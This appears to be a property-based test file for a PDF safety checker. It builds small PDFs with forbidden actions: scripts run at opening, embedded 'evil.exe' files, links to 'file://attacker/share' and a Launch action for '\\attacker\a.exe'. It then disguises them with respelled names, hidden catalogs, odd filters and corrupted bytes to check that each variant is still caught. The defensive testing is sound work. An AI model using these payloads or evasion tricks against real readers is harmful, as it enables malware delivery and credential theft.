import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { packedPdf } from '../testing/packed-pdf.ts';
import { seenByReader } from '../testing/seen-by-reader.ts';
import { type PdfObject, tinyPdf } from '../testing/tiny-files.ts';
import { faultOfPdf } from './pdf.ts';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const ANNOTATION = '/Type /Annot /Rect [0 0 9 9]';

type Deed = Partial<Spelled>;
type Spelled = { catalog: string; page: string; objects: string[] };

/** Forbidden actions as entries of the catalog and of the page, and as objects from the fourth on. */
const deeds: Readonly<Record<string, Deed>> = {
  'a script at opening': { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' },
  'a script by its name': {
    catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
  },
  'a script of the page': { page: '/AA << /O << /S /JavaScript /JS <6170> >> >>' },
  'a printer at opening': { catalog: '/OpenAction 4 0 R', objects: ['<< /S /Named /N /Print >>'] },
  'a file by its name': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>'],
  },
  'a file at a place of the page': {
    page: '/Annots [4 0 R]',
    objects: [
      `<< ${ANNOTATION} /Subtype /FileAttachment /FS 5 0 R >>`,
      '<< /F (evil.exe) /EF << /F 6 0 R >> >>',
    ],
  },
  'a file of another computer': {
    page: '/Annots [4 0 R]',
    objects: [`<< ${ANNOTATION} /Subtype /Link /A << /S /GoToR /F (file://attacker/share) /D [0 /Fit] >> >>`],
  },
  'an address of a file': {
    page: '/Annots [4 0 R]',
    objects: [`<< ${ANNOTATION} /Subtype /Link /A << /S /URI /URI (file://attacker/share) >> >>`],
  },
  'a program': {
    page: '/Annots [4 0 R]',
    objects: [`<< ${ANNOTATION} /Subtype /Link /A << /S /Launch /F (\\\\\\\\attacker\\\\a.exe) >> >>`],
  },
  'a form of its own kind': {
    catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>',
    objects: ['[(template) (<template/>)]'],
  },
  'a collection': { catalog: '/Collection << /View /T >>' },
};
const harmless = {
  catalog: '/OpenAction [3 0 R /Fit] /Lang (de)',
  page: '/Annots [4 0 R]',
  objects: [`<< ${ANNOTATION} /Subtype /Link /A << /S /URI /URI (https://example.org/a\\(b) >> >>`],
};

/** Makes choices from a list of numbers. */
type Dice = (sides: number) => number;
const diceOf = (numbers: readonly number[]): Dice => {
  let at = 0;
  return (sides) => (numbers[at++ % numbers.length] ?? 0) % sides;
};

/** Returns the values in another, equally correct spelling. */
function respelled(text: string, dice: Dice): string {
  return text.replace(/\((?:\\.|[^\\)])*\)|\/\w+|<<|>>|\s+/g, (token) => {
    if (token.startsWith('(') || token.startsWith('<') || token.startsWith('>')) return spaces(dice) + token;
    if (!token.startsWith('/')) return token + spaces(dice);
    const name = [...token.slice(1)].map((letter) =>
      dice(4) === 0 ? `#${letter.charCodeAt(0).toString(16)}` : letter,
    );
    return `/${name.join('')}`;
  });
}
const plain = (deed: Deed): Spelled => ({ catalog: '', page: '', objects: [], ...deed });
const spaces = (dice: Dice): string =>
  ['', ' ', '\n', '\r\n', '\t', '%(\n', '% << )\r', '\f', '%stream\n'][dice(9)]!;

const spelled = (deed: Deed, dice: Dice): Spelled => ({
  catalog: respelled(deed.catalog ?? '', dice),
  page: respelled(deed.page ?? '', dice),
  objects: (deed.objects ?? []).map((object) => respelled(object, dice)),
});

/** Files of equal content: with a plain table, or with all objects packed. */
const shapes: readonly ((of: Spelled) => Uint8Array<ArrayBuffer>)[] = [tinyPdf, packedPdf];

const TABLE_ROW = /^\d{10} 00000 n/m;
/** Places in which only a reader finds a catalog that the plain text of the file does not have. */
const hidingPlaces: readonly ((catalog: string) => PdfObject)[] = [
  (catalog) => `(${catalog})`,
  (catalog) => `1 %${catalog}\n`,
  (catalog) => ({ dictionary: '<< >>', bytes: latin1(catalog) }),
  (catalog) => ({ dictionary: '<< /Length 1 >>', bytes: latin1(`endstream ${catalog}`) }),
];

/** Hides the catalog; the table leads there, or is broken, so that a reader searches for it. */
function hidden(of: Spelled, dice: Dice): Uint8Array {
  const catalog = `1 0 obj <</Type /Catalog /Pages 2 0 R ${of.catalog}>> endobj`;
  const place = hidingPlaces[dice(hidingPlaces.length)]!;
  const file = latin1Of(tinyPdf({ page: of.page, objects: [...of.objects, place(catalog)] }));
  const at = String(file.lastIndexOf(catalog)).padStart(10, '0');
  return latin1(
    dice(2) === 0 ? file.replace(TABLE_ROW, `${at} 00000 n`) : file.replace(/startxref\n\d/, 'startxref\n'),
  );
}
const latin1Of = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

/** Packs objects in ways that no program uses. */
function packedOtherwise(of: Spelled, dice: Dice): Uint8Array {
  const content = latin1(`4 0 << ${of.catalog} >>`);
  const hex = latin1(`${content.toString('hex')}>`);
  const ways: [string, Uint8Array][] = [
    ['/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(content))],
    ['/Filter [/ASCIIHexDecode /FlateDecode]', latin1(`${deflateSync(content).toString('hex')}>`)],
    ['/Filter /ASCIIHexDecode', hex],
    ['/F /AHx', hex],
    ['/Filter 7 0 R', hex],
  ];
  const [filter, bytes] = ways[dice(ways.length)]!;
  const entries = `/Type /ObjStm /N 1 /First 4 ${filter}`;
  return tinyPdf({ objects: ['null', 'null', { dictionary: `<< ${entries} >>`, bytes }, '/ASCIIHexDecode'] });
}

const scraps = [
  '(',
  ')',
  '%',
  '\n',
  '<<',
  '>>',
  '<',
  '>',
  '[',
  ']',
  '/',
  '#4',
  'endobj',
  'stream\n',
  '1 0 obj',
  '\\',
  ' ',
  '0',
];
/** Returns a file with some of its bytes left out, doubled, or inserted. */
function broken(file: Uint8Array, dice: Dice): Uint8Array {
  let text = latin1Of(file);
  for (let count = dice(4); count > 0; count -= 1) {
    const at = dice(1000) % text.length;
    const length = dice(3);
    text = text.slice(0, at) + scraps[dice(scraps.length)] + text.slice(at + length);
  }
  return latin1(text);
}

/** Number of random files to try; without it the test always uses the same files. */
const EXPLORED = Number(process.env.PDF_FILES ?? 0);

const chances = fc.array(fc.nat(100_000), { minLength: 20, maxLength: 60 });
const deed = fc.constantFrom(...Object.keys(deeds));
const shape = fc.constantFrom(...shapes);
const disguise = fc.constantFrom(
  hidden,
  packedOtherwise,
  (of: Spelled, dice: Dice) => broken(tinyPdf(of), dice),
  (of: Spelled, dice: Dice) => broken(packedPdf(of), dice),
);

it('judges a file alike, however it is written', () => {
  fc.assert(
    fc.property(deed, shape, chances, (name, shapeOf, numbers) => {
      expect(faultOfPdf(shapeOf(spelled(deeds[name]!, diceOf(numbers)))), name).toBe('file-active');
      expect(faultOfPdf(shapeOf(spelled(harmless, diceOf(numbers))))).toBeNull();
    }),
    { numRuns: 500 },
  );
});

it('knows a reader that finds each of the deeds', async () => {
  for (const [name, of] of Object.entries(deeds)) {
    for (const shapeOf of shapes) expect(await seenByReader(shapeOf(plain(of))), name).not.toEqual([]);
  }
  for (const shapeOf of shapes) expect(await seenByReader(shapeOf(plain(harmless)))).toEqual([]);
});

it('takes no file in which a reader finds what it should not do', async () => {
  await fc.assert(
    fc.asyncProperty(deed, disguise, chances, async (name, disguised, numbers) => {
      const dice = diceOf(numbers);
      const file = disguised(spelled(deeds[name]!, dice), dice);
      if (faultOfPdf(file) === null) expect(await seenByReader(file)).toEqual([]);
    }),
    EXPLORED ? { numRuns: EXPLORED } : { numRuns: 1000, seed: 1 },
  );
});
